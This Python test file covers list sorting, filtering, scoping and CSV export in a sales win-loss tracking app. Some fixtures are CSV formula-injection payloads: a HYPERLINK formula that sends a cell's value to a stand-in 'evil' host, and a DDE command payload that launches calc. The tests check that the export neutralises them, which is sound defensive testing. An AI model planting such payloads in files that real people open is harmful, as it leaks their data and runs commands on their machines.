"""Every list sorts and filters through listing.py: the accounts, deals and stakeholders
lists, row order per sort, each filter, the note for an unknown sort or filter value,
and the CSV download of the same filters (all rows, formula-safe, scoped)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from sqlmodel import Session

from valuetracker.models import Deal, Stakeholder

from .factories import (
    make_account,
    make_competitor,
    make_deal,
    make_factor,
    make_interview,
    make_quote,
    make_stakeholder,
)
from .rendered import page_form, page_html, page_text


def _rows(html: str, table: str) -> list[str]:
    """The first link's text of each row of the table with id `table`, in page order
    (after the row's bulk checkbox, when the user has bulk actions)."""
    body = html.split(f'id="{table}"', 1)[1].split("</tbody>", 1)[0]
    return [re.sub(r"<[^>]+>", "", m).strip()
            for m in re.findall(r"<tr>(?:<td><input [^>]*></td>)?<td><a [^>]*>(.*?)</a>",
                                body)]


def _csv(client: Any, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def _csv_link(html: str) -> str:
    href = re.search(r'id="download-csv" href="([^"]+)"', html).group(1)
    return href.replace("&amp;", "&")


# --- deals ------------------------------------------------------------------------------


def _deals(session: Session, cast: Any) -> dict[str, Deal]:
    oracle = make_competitor(session, "Oracle")
    sap = make_competitor(session, "SAP")
    deals = {
        "Alpha": make_deal(session, cast.account1, "won", date(2026, 3, 1), name="Alpha",
                           amount=Decimal("5000"), product="Core", owner_id=cast.am1.id,
                           competitors=(oracle,)),
        "Bravo": make_deal(session, cast.account1, "lost", date(2026, 6, 1), name="Bravo",
                           amount=Decimal("25000"), product="Analytics",
                           owner_name="Rita Rep", competitors=(sap,)),
        "Charlie": make_deal(session, cast.account1, "open", None, name="Charlie",
                             amount=Decimal("12000"), product="Core", owner_id=cast.am1.id),
        "Delta": make_deal(session, cast.account2, "won", date(2026, 9, 1), name="Delta",
                           amount=Decimal("40000"), product="Core", owner_id=cast.am2.id,
                           competitors=(oracle,)),
    }
    session.commit()
    return deals


def test_deals_sort_by_close_date_amount_and_name(session: Session, cast: Any,
                                                  login_as: Any) -> None:
    _deals(session, cast)
    client = login_as(cast.leader)
    cases = {
        "": ["Charlie", "Delta", "Bravo", "Alpha"],  # open first, then newest close
        "?sort=closed": ["Alpha", "Bravo", "Delta", "Charlie"],
        "?sort=-closed": ["Charlie", "Delta", "Bravo", "Alpha"],
        "?sort=amount": ["Alpha", "Charlie", "Bravo", "Delta"],
        "?sort=-amount": ["Delta", "Bravo", "Charlie", "Alpha"],
        "?sort=name": ["Alpha", "Bravo", "Charlie", "Delta"],
        "?sort=-name": ["Delta", "Charlie", "Bravo", "Alpha"],
    }
    for query, expected in cases.items():
        assert _rows(page_html(client, "/deals" + query), "deal-list") == expected, query


def test_deals_filters(session: Session, cast: Any, login_as: Any) -> None:
    deals = _deals(session, cast)
    oracle = deals["Alpha"].primary_competitor_id
    client = login_as(cast.leader)
    cases = {
        f"owner={cast.am1.id}": ["Alpha", "Charlie"],
        "owner=name:Rita Rep": ["Bravo"],
        "outcome=won": ["Alpha", "Delta"],
        "closed_from=2026-05-01&closed_to=2026-09-01": ["Bravo", "Delta"],
        "closed_to=2026-05-31": ["Alpha"],
        "product=Core": ["Alpha", "Charlie", "Delta"],
        f"competitor={oracle}": ["Alpha", "Delta"],
        "amount_min=10000&amount_max=30000": ["Bravo", "Charlie"],
        "amount_min=12000.00": ["Bravo", "Charlie", "Delta"],
        "product=Core&outcome=won&sort=-amount": ["Delta", "Alpha"],
    }
    for query, expected in cases.items():
        html = page_html(client, "/deals?" + query + ("" if "sort=" in query else
                                                      "&sort=name"))
        assert _rows(html, "deal-list") == expected, query
        assert "list-note" not in html, query


def test_deals_unknown_values_are_ignored_with_a_note(session: Session, cast: Any,
                                                     login_as: Any) -> None:
    _deals(session, cast)
    client = login_as(cast.leader)
    html = page_html(client, "/deals?sort=margin&outcome=maybe&product=Nope"
                             "&closed_from=2026-13-01&amount_min=lots&colour=red")
    text = page_text(html)
    assert "Sorting by “margin” isn't available; sorted by close date, descending." in text
    assert "“maybe” isn't a value of the outcome filter; ignored." in text
    assert "“Nope” isn't a value of the product filter; ignored." in text
    assert "“2026-13-01” isn't a date (use YYYY-MM-DD); the closed from filter is ignored." \
        in text
    assert "“lots” isn't an amount; the amount from filter is ignored." in text
    assert "There is no filter “colour” on this list; ignored." in text
    # Nothing was filtered: every deal, in the default order.
    assert _rows(html, "deal-list") == ["Charlie", "Delta", "Bravo", "Alpha"]
    # The links of the page leave the ignored values out.
    assert "margin" not in _csv_link(html) and "maybe" not in _csv_link(html)


def test_deals_csv_equals_the_filtered_list_all_pages(session: Session, cast: Any,
                                                      login_as: Any) -> None:
    for n in range(55):  # more than one page (50)
        make_deal(session, cast.account1, "won", date(2026, 1, 1), name=f"Bulk {n:02d}",
                  amount=Decimal(n), product="Bulk")
    make_deal(session, cast.account1, "lost", date(2026, 1, 1), name="Other", product="X")
    session.commit()
    client = login_as(cast.leader)
    html = page_html(client, "/deals?product=Bulk&sort=-amount")
    assert len(_rows(html, "deal-list")) == 50
    link = _csv_link(html)
    assert "format=csv" in link and "product=Bulk" in link and "sort=-amount" in link
    rows = _csv(client, link)
    assert [r["Deal"] for r in rows] == [f"Bulk {n:02d}" for n in range(54, -1, -1)]
    assert rows[0]["Amount"] == "54.00" and rows[0]["Outcome"] == "won"
    assert set(rows[0]) == {"Deal", "Account", "Outcome", "Amount", "Product", "Owner",
                            "Primary competitor", "Opened", "Closed", "External id"}


def test_deals_csv_is_formula_safe(session: Session, cast: Any, login_as: Any) -> None:
    make_deal(session, cast.account1, "won", date(2026, 2, 1),
              name='=HYPERLINK("http://evil/?"&A1)', product="+cmd", amount=Decimal("-5"))
    session.commit()
    client = login_as(cast.am1)
    [row] = _csv(client, "/deals?format=csv")
    assert row["Deal"] == "'=HYPERLINK(\"http://evil/?\"&A1)"
    assert row["Product"] == "'+cmd"
    assert row["Amount"] == "-5.00"  # a number stays a number


def test_deals_csv_is_scoped(session: Session, cast: Any, login_as: Any) -> None:
    _deals(session, cast)
    rows = _csv(login_as(cast.am1), "/deals?format=csv&sort=name")
    assert [r["Deal"] for r in rows] == ["Alpha", "Bravo", "Charlie"]  # not Delta (Globex)
    assert {r["Account"] for r in rows} == {"Acme Corp"}
    assert [r["Owner"] for r in rows] == ["Alice Manager", "Rita Rep", "Alice Manager"]


# --- accounts ---------------------------------------------------------------------------


def test_accounts_unknown_sort_is_ignored_with_a_note(session: Session, cast: Any,
                                                      login_as: Any) -> None:
    client = login_as(cast.leader)
    text = page_text(page_html(client, "/accounts?sort=margin"))
    assert "Sorting by “margin” isn't available; sorted by name." in text
    assert "list-note" not in page_html(client, "/accounts?sort=-revenue")
    text = page_text(page_html(client, "/accounts?tier=gold&owner=999"))
    assert "“gold” isn't a value of the tier filter; ignored." in text
    assert "“999” isn't a value of the owner filter; ignored." in text


def test_accounts_sort_filter_and_csv(session: Session, cast: Any, login_as: Any) -> None:
    make_account(session, "Initech", owner=cast.am1, segment="SMB",
                 annual_revenue=Decimal("5000"), renewal_date=date(2027, 1, 1))
    make_account(session, "@Evil Co", owner=cast.am1, segment="SMB", annual_revenue=None)
    session.commit()
    client = login_as(cast.leader)
    html = page_html(client, "/accounts?sort=-revenue")
    names = re.findall(r'<td><a href="/accounts/[^"]+">([^<]+)</a>', html)
    assert names == ["Acme Corp", "Globex", "Initech", "@Evil Co"]  # no revenue: last
    html = page_html(client, "/accounts?segment=SMB&sort=name")
    rows = _csv(client, _csv_link(html))
    assert [r["Name"] for r in rows] == ["'@Evil Co", "Initech"]
    assert rows[1]["Annual revenue"] == "5000.00" and rows[1]["Renewal date"] == "2027-01-01"
    assert rows[1]["Owner"] == "Alice Manager"


def test_account_managers_csv_holds_only_their_accounts(session: Session, cast: Any,
                                                        login_as: Any) -> None:
    rows = _csv(login_as(cast.am1), "/accounts?format=csv")
    assert [r["Name"] for r in rows] == ["Acme Corp"]
    # am1 owns none of am2's accounts: that owner filter is ignored, the scope stays.
    rows = _csv(login_as(cast.am2), f"/accounts?format=csv&owner={cast.am1.id}")
    assert [r["Name"] for r in rows] == ["Globex"]
    rows = _csv(login_as(cast.leader), f"/accounts?format=csv&owner={cast.am1.id}")
    assert [r["Name"] for r in rows] == ["Acme Corp"]


# --- stakeholders across accounts --------------------------------------------------------


def _people(session: Session, cast: Any) -> dict[str, Stakeholder]:
    now = datetime(2026, 11, 1, tzinfo=UTC)
    third = make_account(session, "Umbrella", owner=cast.am1)
    people = {
        "Erin": make_stakeholder(session, cast.account1, "Erin Evaluator", influence=2,
                                 buying_role="evaluator", sentiment="skeptic",
                                 last_contacted_on=date(2026, 10, 1)),
        "Fred": make_stakeholder(session, third, "Fred Finance", influence=5,
                                 buying_role="economic_buyer", sentiment="advocate",
                                 left_company_at=now, last_contacted_on=date(2026, 6, 1)),
        "Gail": make_stakeholder(session, third, "Gail Gone", influence=4, opted_out_at=now,
                                 sentiment="skeptic"),
        "Zed": make_stakeholder(session, cast.account1, "Zed Erased", erased_at=now),
    }
    cast.stakeholder1.influence = 3
    cast.stakeholder1.last_contacted_on = date(2026, 11, 20)
    session.add(cast.stakeholder1)
    session.commit()
    return people


def test_stakeholders_sorts(session: Session, cast: Any, login_as: Any) -> None:
    _people(session, cast)
    client = login_as(cast.am1)
    cases = {
        "": ["Carol Buyer", "Erin Evaluator", "Fred Finance", "Gail Gone"],
        "?sort=-name": ["Gail Gone", "Fred Finance", "Erin Evaluator", "Carol Buyer"],
        "?sort=account": ["Carol Buyer", "Erin Evaluator", "Fred Finance", "Gail Gone"],
        "?sort=-account": ["Fred Finance", "Gail Gone", "Carol Buyer", "Erin Evaluator"],
        "?sort=-influence": ["Fred Finance", "Gail Gone", "Carol Buyer", "Erin Evaluator"],
        "?sort=contacted": ["Fred Finance", "Erin Evaluator", "Carol Buyer", "Gail Gone"],
        "?sort=-contacted": ["Carol Buyer", "Erin Evaluator", "Fred Finance", "Gail Gone"],
    }
    for query, expected in cases.items():
        html = page_html(client, "/stakeholders" + query)
        assert _rows(html, "people-list") == expected, query


def test_stakeholders_filters_scope_and_erased(session: Session, cast: Any,
                                               login_as: Any) -> None:
    _people(session, cast)
    client = login_as(cast.am1)
    cases = {
        f"account={cast.account1.id}": ["Carol Buyer", "Erin Evaluator"],
        "role=economic_buyer": ["Carol Buyer", "Fred Finance"],
        "key=yes": ["Carol Buyer"],
        "key=no": ["Erin Evaluator", "Fred Finance", "Gail Gone"],
        "sentiment=skeptic": ["Erin Evaluator", "Gail Gone"],
        "left=yes": ["Fred Finance"],
        "left=no&opted_out=no": ["Carol Buyer", "Erin Evaluator"],
        "opted_out=yes": ["Gail Gone"],
        "q=finance": ["Fred Finance"],
    }
    for query, expected in cases.items():
        html = page_html(client, "/stakeholders?" + query)
        assert _rows(html, "people-list") == expected, query
        assert "list-note" not in html
    # Never an erased person, never another manager's account's people (Dan Champion).
    names = [r["Name"] for r in _csv(client, "/stakeholders?format=csv")]
    assert names == ["Carol Buyer", "Erin Evaluator", "Fred Finance", "Gail Gone"]
    text = page_text(page_html(client, f"/stakeholders?account={cast.account2.id}&key=maybe"))
    assert f"“{cast.account2.id}” isn't a value of the account filter; ignored." in text
    assert "“maybe” isn't a value of the key filter; ignored." in text
    assert [r["Name"] for r in _csv(login_as(cast.leader), "/stakeholders?format=csv")] == [
        "Carol Buyer", "Dan Champion", "Erin Evaluator", "Fred Finance", "Gail Gone"]


def test_stakeholders_account_filter_applies_to_an_account_without_people(
        session: Session, cast: Any, login_as: Any) -> None:
    """An account the user sees that has nobody (yet) is still a value of the account
    filter: the list is empty, the account named in its select, no note, and the CSV holds
    nobody; an account the user doesn't see is still ignored with a note."""
    _people(session, cast)
    empty = make_account(session, "Nobody Here Ltd", owner=cast.am1)
    session.commit()
    client = login_as(cast.am1)
    html = page_html(client, f"/stakeholders?account={empty.id}&pulse=any")
    assert "list-note" not in html
    assert _rows(html, "people-list") == []
    assert "No people match." in page_text(html)
    assert re.search(rf'<option value="{empty.id}" selected>Nobody Here Ltd</option>', html)
    assert _csv(client, f"/stakeholders?account={empty.id}&pulse=any&format=csv") == []
    other = login_as(cast.am2)
    text = page_text(page_html(other, f"/stakeholders?account={empty.id}"))
    assert f"“{empty.id}” isn't a value of the account filter; ignored." in text


def test_stakeholders_csv_equals_the_filtered_list(session: Session, cast: Any,
                                                   login_as: Any) -> None:
    _people(session, cast)
    make_stakeholder(session, cast.account1, "-Minus Person", title="=cmd|' /C calc'!A0",
                     sentiment="skeptic")
    session.commit()
    client = login_as(cast.am1)
    html = page_html(client, "/stakeholders?sentiment=skeptic&sort=-influence")
    shown = _rows(html, "people-list")
    rows = _csv(client, _csv_link(html))
    assert [r["Name"].removeprefix("'") for r in rows] == shown
    assert shown == ["Gail Gone", "-Minus Person", "Erin Evaluator"]
    minus = rows[1]
    assert minus["Name"] == "'-Minus Person" and minus["Title"] == "'=cmd|' /C calc'!A0"
    gail = rows[0]
    assert gail["Opted out"] == "yes" and gail["Left"] == "no" and gail["Influence"] == "4"
    assert gail["Account"] == "Umbrella"


def test_stakeholders_page_is_in_the_menu(session: Session, cast: Any, login_as: Any) -> None:
    for user in (cast.am1, cast.analyst, cast.leader):
        assert 'href="/stakeholders"' in page_html(login_as(user), "/accounts")


# --- the interview queue -----------------------------------------------------------------


def test_interview_queue_sorts_filters_and_csv(session: Session, cast: Any,
                                               login_as: Any) -> None:
    won = make_deal(session, cast.account1, "won", name="Won deal")
    lost = make_deal(session, cast.account2, "lost", name="Lost deal")
    at = datetime(2026, 10, 1, tzinfo=UTC)
    make_interview(session, won, cast.stakeholder1, status="completed", requested_at=at)
    make_interview(session, lost, cast.stakeholder2, status="requested",
                   requested_at=at.replace(month=9))
    make_interview(session, won, None, status="declined", contact_name="+Pat Buyer",
                   requested_at=at.replace(month=11))
    session.commit()
    client = login_as(cast.leader)
    cases = {
        "": ["Lost deal", "Won deal", "Won deal"],  # open first, then newest
        "?sort=requested": ["Lost deal", "Won deal", "Won deal"],
        "?outcome=won&sort=-requested": ["Won deal", "Won deal"],
        "?status=requested": ["Lost deal"],
    }
    for query, expected in cases.items():
        html = page_html(client, "/interviews" + query)
        assert _rows(html, "interview-list") == expected, query
        assert "list-note" not in html
    html = page_html(client, "/interviews?outcome=won&sort=-requested")
    rows = _csv(client, _csv_link(html))
    assert [(r["Status"], r["Interviewee"]) for r in rows] == [
        ("declined", "'+Pat Buyer"), ("completed", "Carol Buyer")]
    text = page_text(page_html(client, "/interviews?status=lost&sort=deal"))
    assert "Sorting by “deal” isn't available; sorted by open requests first." in text
    assert "“lost” isn't a value of the status filter; ignored." in text
    assert login_as(cast.am1).get("/interviews?format=csv").status_code == 403


# --- the quote library ------------------------------------------------------------------


def _quotes_shown(html: str) -> list[str]:
    body = html.split('id="quote-list"', 1)[1].split("</tbody>", 1)[0]
    return re.findall(r'<blockquote class="quote mb-0">“(.*?)”</blockquote>', body)


def test_quote_library_sorts_filters_notes_and_csv(session: Session, cast: Any,
                                                   login_as: Any) -> None:
    price = make_factor(session, "Price")
    oracle = make_competitor(session, "Oracle")
    won = make_deal(session, cast.account2, "won", date(2026, 5, 1), name="Won deal",
                    competitors=(oracle,))
    lost = make_deal(session, cast.account1, "lost", date(2026, 6, 1), name="Lost deal")
    at = datetime(2026, 6, 1, 12, tzinfo=UTC)
    early = make_interview(session, won, cast.stakeholder2, completed_at=at.replace(month=5))
    late = make_interview(session, lost, None, contact_name="Zelda Secretname",
                          anonymity="anonymized", completed_at=at.replace(month=7))
    make_quote(session, early, "Fair price", price, "pricing")
    make_quote(session, late, "=HYPERLINK(\"x\")", price, "pricing")
    make_quote(session, late, "Support was slow", None, "support")
    make_interview(session, won, None, status="requested")  # no quotes: not completed
    session.commit()
    client = login_as(cast.analyst)
    formula, slow = "=HYPERLINK(&#34;x&#34;)", "Support was slow"
    cases = {  # ties: the newest interview first, then the newest quote
        "": [slow, formula, "Fair price"],
        "?sort=completed": ["Fair price", slow, formula],
        "?sort=-account": ["Fair price", slow, formula],
        "?sort=outcome": [slow, formula, "Fair price"],
        # The analytics' links keep their names: factor, tag, outcome, competitor.
        f"?factor={price.id}&tag=pricing&outcome=lost": [formula],
        f"?competitor={oracle.id}": ["Fair price"],
        "?q=slow": ["Support was slow"],
    }
    for query, expected in cases.items():
        html = page_html(client, "/quotes" + query)
        assert _quotes_shown(html) == expected, query
        assert "list-note" not in html, query
    text = page_text(page_html(client, "/quotes?sort=length&outcome=open&factor=x&colour=red"))
    assert "Sorting by “length” isn't available; sorted by interview date, descending." in text
    assert "“open” isn't a value of the outcome filter; ignored." in text
    assert "“x” isn't a value of the factor filter; ignored." in text
    assert "There is no filter “colour” on this list; ignored." in text
    # The CSV is the link the page shows: the same filters and sort, every row.
    html = page_html(client, f"/quotes?factor={price.id}&sort=completed")
    link = _csv_link(html)
    assert f"factor={price.id}" in link and "sort=completed" in link
    rows = _csv(client, link)
    assert [r["Quote"] for r in rows] == ["Fair price", "'=HYPERLINK(\"x\")"]
    assert [r["Account"] for r in rows] == ["Globex", "Acme Corp"]
    # Anonymity holds in the file as on the page.
    assert rows[1]["Interviewee"].startswith("Anonymized interviewee")
    all_rows = _csv(client, _csv_link(page_html(client, "/quotes")))
    assert len(all_rows) == 3
    assert "Zelda" not in client.get(_csv_link(html)).get_data(as_text=True)
    assert login_as(cast.am1).get("/quotes?format=csv").status_code == 403


def test_quote_library_saves_as_a_view(session: Session, cast: Any, login_as: Any) -> None:
    """"Save view" on the quote library, submitted as the page renders it, keeps the
    filters and sort, and the saved view opens the same list."""
    from sqlmodel import select

    from valuetracker.models import SavedView

    price = make_factor(session, "Price")
    deal = make_deal(session, cast.account1, "lost", date(2026, 6, 1), name="Lost deal")
    interview = make_interview(session, deal, cast.stakeholder1,
                               completed_at=datetime(2026, 6, 2, 12, tzinfo=UTC))
    make_quote(session, interview, "Too slow to answer", price, "support")
    session.commit()
    client = login_as(cast.leader)
    form = page_form(client, "/quotes?tag=support&sort=account", having="query")
    response = client.post(form.action, data=form.data(name="Support quotes"),
                           follow_redirects=True)
    assert response.status_code == 200
    view = session.exec(select(SavedView).where(SavedView.name == "Support quotes")).one()
    assert view.endpoint == "winloss.quotes"
    assert sorted(view.query.split("&")) == ["sort=account", "tag=support"]
    assert "Too slow to answer" in page_text(
        client.get(f"/quotes?{view.query}").get_data(as_text=True))
